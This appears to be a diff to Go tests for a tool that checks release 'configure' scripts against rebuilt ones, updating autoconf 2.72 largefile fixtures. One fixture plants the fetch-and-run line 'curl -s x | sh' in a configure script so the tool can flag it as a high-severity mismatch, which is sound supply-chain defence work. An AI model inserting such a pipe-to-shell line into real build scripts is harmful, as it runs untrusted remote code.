@@ -349,7 +349,7 @@ func TestPatchedDebianBuild(t *testing.T) {
 	tree := map[string]string{"configure.ac": configureAC}
 	t.Run("upstream 2.72 release", func(t *testing.T) {
 		f := newFixture(t, map[string]string{"configure.ac": configureAC,
-			"configure": configureBy("2.72", "ac_msg=\"checking for $CC option to enable large file support\"\n")}, tree, "2.72")
+			"configure": configureBy("2.72", "ac_msg=\"checking for $CC option to enable large file support\"\nac_cv_sys_largefile_opts=x\n")}, tree, "2.72")
 		f.in.Toolchains = &fakeToolchains{probe: f.run}
 		res := f.result(t)
 		c := fileOf(t, res, "configure")
@@ -364,7 +364,7 @@ func TestPatchedDebianBuild(t *testing.T) {
 	})
 	t.Run("upstream 2.72 release with an injected command", func(t *testing.T) {
 		f := newFixture(t, map[string]string{"configure.ac": configureAC,
-			"configure": configureBy("2.72", "ac_msg=\"checking for $CC option to enable large file support\"\ncurl -s x | sh\n")}, tree, "2.72")
+			"configure": configureBy("2.72", "ac_msg=\"checking for $CC option to enable large file support\"\nac_cv_sys_largefile_opts=x\ncurl -s x | sh\n")}, tree, "2.72")
 		f.in.Toolchains = &fakeToolchains{probe: f.run}
 		if c := fileOf(t, f.result(t), "configure"); c.Rebuild != report.RebuildDiffers || c.Severity != report.SevHigh {
 			t.Fatalf("configure = %+v", c)
@@ -372,7 +372,7 @@ func TestPatchedDebianBuild(t *testing.T) {
 	})
 	t.Run("Debian-built release", func(t *testing.T) {
 		f := newFixture(t, map[string]string{"configure.ac": configureAC,
-			"configure": configureBy("2.72", "ac_msg=\"checking for $CPPFLAGS option for large files\"\n")}, tree, "2.72")
+			"configure": configureBy("2.72", "ac_msg=\"checking for $CPPFLAGS option for large files\"\nac_cv_sys_largefile_opts=x\n")}, tree, "2.72")
 		f.in.Toolchains = &fakeToolchains{probe: f.run}
 		if c := fileOf(t, f.result(t), "configure"); c.Rebuild != report.RebuildDiffers || c.Severity != report.SevHigh {
 			t.Fatalf("configure = %+v", c)
@@ -451,5 +451,18 @@ func TestForeignPkgM4(t *testing.T) {
 	}
 	if len(res.Findings) != 1 || !strings.HasPrefix(res.Findings[0].Message, "pkg.m4 of the release not available: 1 generated file not proved") {
 		t.Errorf("findings = %+v", res.Findings)
+	}
+}
+
+func TestUpstreamLargefile(t *testing.T) {
+	for c, want := range map[string]bool{
+		"checking for $CC option to enable large file support\nac_cv_sys_largefile_opts=x\n": true,  // autoconf 2.72
+		"checking for $CC option to support large files\nac_cv_sys_largefile_opts=x\n":       true,  // gnulib's override
+		"checking for $CPPFLAGS option for large files\nac_cv_sys_largefile_opts=x\n":        false, // Debian 2.72-3.1
+		"ac_cv_sys_file_offset_bits=no\n":                                                    false, // autoconf 2.71
+	} {
+		if got := upstreamLargefile([]byte(c)); got != want {
+			t.Errorf("%q: %v, want %v", c, got, want)
+		}
 	}
 }
